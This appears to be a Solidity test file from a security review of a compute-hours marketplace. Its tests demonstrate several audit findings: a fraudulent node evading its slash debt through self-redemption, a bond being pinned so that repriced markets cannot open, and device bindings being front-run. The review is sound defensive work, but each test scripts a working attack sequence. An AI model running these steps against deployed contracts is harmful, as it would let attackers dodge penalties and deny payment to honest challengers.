// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {MarketFixture} from "./utils/MarketFixture.sol";
import {INodeRegistry} from "../src/interfaces/INodeRegistry.sol";
import {IComputeHours} from "../src/interfaces/IComputeHours.sol";
import {IHourMarket} from "../src/interfaces/IHourMarket.sol";
import {HourId} from "../src/libraries/HourId.sol";
import "../src/libraries/Constants.sol" as C;

/// @dev Independent review of the hardening (findings 1, 4, 5, 6, 9). Every test here PASSES when it demonstrates the
/// problem it is named after; the numbers are in the comments.
contract ReviewTest is MarketFixture {
    address internal mallory = address(0xBAD);

    function setUp() public override {
        super.setUp();
        vm.prank(admin);
        token.mint(mallory, 1_000_000e6);
        vm.prank(mallory);
        token.approve(address(registry), type(uint256).max);
    }

    function _wealth(address who, uint256 node_) internal view returns (uint256) {
        return token.balanceOf(who) + registry.node(node_).stakeUsdc6;
    }

    // ------------------------------------------------------------------------------------------------ finding R-1

    /// R-1 (HIGH): a fraudulent node escapes its whole slash by bonding its stake and being its own buyer.
    /// Mallory registers a station with 1,944 USD and mints 27 slots × 8 hours (27 × 8 × 9 USD = 1,944 USD bonded, free
    /// stake 0; the mints can also front-run the challenge). The device signs impossible telemetry; the oracle slashes
    /// 50 % = 972 USD. Free stake is 0, so nothing is taken and 972 USD becomes slash debt owed to the challenger (bob).
    /// Mallory keeps every hour she minted, redeems each slot's 8 hours against her own node in its first 360 s and
    /// delivers nothing; after the confirmation window she settles: `seizeBond` pays the "buyer" (mallory) first and
    /// clips the debt to what stays bonded. At the end the debt is 0, bob received 0, and mallory withdraws 1,944 USD:
    /// the fraud cost her nothing. Had she let the hours expire, `releaseUnredeemed` would have paid bob the 972 USD.
    function test_R1_slashDebtEvadedBySelfRedemption() public {
        uint256 stake = 27 * 8 * uint256(DC_BOND_PER_HOUR); // 1,944 USD
        uint256 m = registerAs(mallory, stationSpec(deviceAddr(0xE1)), stake);
        uint256 before = _wealth(mallory, m);
        uint32 first = slotNow() + 1;
        vm.startPrank(mallory);
        for (uint32 i; i < 27; ++i) {
            hours_.mint(m, first + i, 8);
        }
        vm.stopPrank();
        vm.assertEq(registry.node(m).bondedUsdc6, stake, "all stake bonded, free stake 0");

        // The challenger proves device fraud: the oracle slashes half of the stake (DEVICE_FRAUD_SLASH_BPS).
        uint256 slashAmount = stake * C.DEVICE_FRAUD_SLASH_BPS / C.BPS; // 972 USD
        uint256 bobBefore = token.balanceOf(bob);
        vm.prank(attestor);
        uint256 taken = registry.slash(m, slashAmount, bob, "IMPOSSIBLE_TELEMETRY");
        vm.assertEq(taken, 0, "nothing taken now");
        vm.assertEq(registry.node(m).slashDebtUsdc6, slashAmount, "972 USD owed to bob");

        // Mallory is her own buyer: she redeems her own hours against her own node in every slot and never delivers.
        uint256[] memory rids = new uint256[](27);
        for (uint32 i; i < 27; ++i) {
            vm.warp(HourId.startOf(first + i) + 10);
            vm.prank(mallory);
            rids[i] = hours_.redeem(dcHour(first + i), m, 8);
        }
        vm.prank(mallory);
        registry.requestExit(m);
        vm.warp(HourId.startOf(first + 26) + 3600 + C.DELIVERY_CONFIRMATION_WINDOW_SECONDS);
        for (uint256 i; i < 27; ++i) {
            hours_.settleUndelivered(rids[i]); // pays the holder, mallory, 72 USD each
        }
        vm.assertEq(registry.node(m).slashDebtUsdc6, 0, "debt clipped to zero by the seizures");

        vm.warp(block.timestamp + C.UNBONDING_DELAY_SECONDS);
        vm.prank(mallory);
        registry.withdrawStake(m);

        // DEMONSTRATED: the fraudster ends exactly where she started; the challenger got nothing of the 972 USD.
        vm.assertEq(token.balanceOf(mallory), before, "mallory recovered all 1,944 USD");
        vm.assertEq(token.balanceOf(bob), bobBefore, "bob, the challenger, received 0 of 972 USD");
    }

    /// R-1b (part of R-1): a seizure forgives the slash debt even when the node has free stake to pay it.
    /// Node with 2,000 USD, 1,152 bonded (16 slots × 8 h), 848 free; slash 1,000 → 848 taken, 152 debt. Mallory tops up
    /// 5,000 USD of free stake, then defaults all 128 of her own hours to herself (72 USD per slot seized to her): once
    /// less than 152 USD stays bonded the debt is clipped down with it, to 0, while 5,000 USD of free stake stays unused.
    function test_R1b_seizureForgivesDebtDespiteFreeStake() public {
        uint256 m = registerAs(mallory, stationSpec(deviceAddr(0xE2)), 2_000e6);
        uint32 first = slotNow() + 1;
        vm.startPrank(mallory);
        for (uint32 i; i < 16; ++i) {
            hours_.mint(m, first + i, 8);
        }
        vm.stopPrank();
        vm.prank(attestor);
        registry.slash(m, 1_000e6, bob, "IMPOSSIBLE_TELEMETRY");
        vm.assertEq(registry.node(m).slashDebtUsdc6, 152e6, "152 USD debt");
        vm.prank(mallory);
        registry.addStake(m, 5_000e6);

        uint256[] memory rids = new uint256[](16);
        for (uint32 i; i < 16; ++i) {
            vm.warp(HourId.startOf(first + i) + 10);
            vm.prank(mallory);
            rids[i] = hours_.redeem(dcHour(first + i), m, 8);
        }
        vm.warp(HourId.startOf(first + 15) + 3600 + C.DELIVERY_CONFIRMATION_WINDOW_SECONDS);
        uint256 bobBefore = token.balanceOf(bob);
        for (uint256 i; i < 16; ++i) {
            hours_.settleUndelivered(rids[i]);
        }
        INodeRegistry.Node memory n = registry.node(m);
        // DEMONSTRATED: 5,000 USD of free stake sits on the node, yet the 152 USD debt is gone and bob got nothing.
        vm.assertEq(n.slashDebtUsdc6, 0, "debt forgiven");
        vm.assertEq(n.stakeUsdc6 - n.bondedUsdc6, 5_000e6, "free stake that could have paid it");
        vm.assertEq(token.balanceOf(bob), bobBefore, "challenger unpaid");
    }

    /// R-1c (part of R-1): while a debt is open a second proven fraud costs only free stake, which is 0 for a node
    /// that keeps its stake bonded: two frauds of 1,000 USD each take 0 now and leave one debt of 1,000.
    function test_R1c_secondFraudFreeWhileDebtOpen() public {
        uint256 m = registerAs(mallory, stationSpec(deviceAddr(0xE3)), 2_016e6); // 28 slots × 72 USD
        uint32 first = slotNow() + 1;
        vm.startPrank(mallory);
        for (uint32 i; i < 28; ++i) {
            hours_.mint(m, first + i, 8);
        }
        vm.stopPrank();
        vm.startPrank(attestor);
        vm.assertEq(registry.slash(m, 1_008e6, bob, "fraud 1"), 0, "first: nothing now");
        vm.assertEq(registry.slash(m, 504e6, carol, "fraud 2"), 0, "second: nothing now");
        vm.stopPrank();
        // DEMONSTRATED: the second fraud added no debt at all, and carol (its challenger) can never be paid.
        vm.assertEq(registry.node(m).slashDebtUsdc6, 1_008e6, "only the first fraud is owed");
    }

    // ------------------------------------------------------------------------------------------------ finding R-2

    /// R-2 (MEDIUM): the bond per hour is fixed at an id's first mint, so any class member can pin the old bond on every
    /// id of the next 90 days (2,160 slots × 1 hour × 9 USD = 19,440 USD of stake, released slot by slot) just before
    /// governance reprices the class; the markets of those ids can then never open (`BondBelowAsk`), so honest nodes'
    /// hours of them cannot be sold through the protocol. Here: bond 9 → 20 USD, ask 2 → 8.5 USD, cap 8 → 18 USD. The
    /// pinned ids keep bond 9, maxCap = (9 − 0.000003) / 1.1 = 8.18 USD < ask 8.5 → every open reverts.
    function test_R2_firstMintPinsOldBondAndBlocksRepricedMarkets() public {
        uint256 m = registerAs(mallory, stationSpec(deviceAddr(0xE4)), 1_000e6);
        uint32 first = slotNow() + 2;
        vm.startPrank(mallory);
        for (uint32 i; i < 10; ++i) {
            hours_.mint(m, first + i, 1); // one hour per slot: 9 USD bonded each
        }
        vm.stopPrank();

        vm.startPrank(admin);
        registry.setCapacityClass(
            DC_CLASS,
            INodeRegistry.CapacityClass({
                label: "dc-900",
                fp16TflopsMin: 756,
                memoryGbMin: 80,
                boardPowerWMax: 700,
                bondPerHourUsdc6: 20_000_000
            })
        );
        market.listClass(DC_CLASS, IHourMarket.ClassConfig(8_500_000, 18_000_000, DC_FLOOR, HORIZON, 1, MIN_DEPTH));
        vm.stopPrank();

        // An honest node mints at the pinned id (its bond is the pinned 9 USD, not the class's 20 USD) ...
        uint256 id = dcHour(first + 5);
        vm.prank(alice);
        hours_.mint(nodeId, first + 5, 8);
        vm.assertEq(hours_.bondPerHourOf(id), DC_BOND_PER_HOUR, "pinned at 9 USD");
        // ... and cannot sell: DEMONSTRATED, the market of the id can never open.
        vm.expectRevert(abi.encodeWithSelector(IHourMarket.BondBelowAsk.selector, id, DC_BOND_PER_HOUR, 8_500_000));
        market.open(id);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(IHourMarket.BondBelowAsk.selector, id, DC_BOND_PER_HOUR, 8_500_000));
        market.addLiquidity(0, id, 8, 0, 0, alice, block.timestamp);
        // An id nobody pinned takes the new bond and opens.
        uint32 fresh = first + 20;
        vm.prank(alice);
        hours_.mint(nodeId, fresh, 8);
        vm.assertEq(hours_.bondPerHourOf(dcHour(fresh)), 20_000_000, "unpinned id takes the new bond");
        market.open(dcHour(fresh));
    }

    // ------------------------------------------------------------------------------------------------ finding R-3

    /// R-3 (LOW): a device cannot revoke a binding it has signed but that is unused: the nonce only moves on a
    /// registration. The device (e.g. resold, or its operator changed its mind) signs a binding to bob at nonce 0 after
    /// an earlier one to mallory at nonce 0; mallory front-runs bob's registration with her older signature and bob's
    /// binding is dead. There is no deadline in `DeviceBinding` and no way for the device to bump its nonce.
    function test_R3_unusedBindingCannotBeRevoked() public {
        address device = deviceAddr(0xE5);
        bytes memory toMallory = deviceBinding(mallory, device); // signed first, nonce 0
        bytes memory toBob = deviceBinding(bob, device); // the device's later choice, also nonce 0
        vm.prank(mallory);
        uint256 m = registry.register(stationSpec(device), 1_000e6, toMallory); // front-run
        vm.assertEq(registry.nodeOfDevice(device), m, "mallory holds the device");
        vm.prank(bob);
        vm.expectRevert(abi.encodeWithSelector(INodeRegistry.DeviceAlreadyRegistered.selector, device, m));
        registry.register(stationSpec(device), 1_000e6, toBob);
    }
}
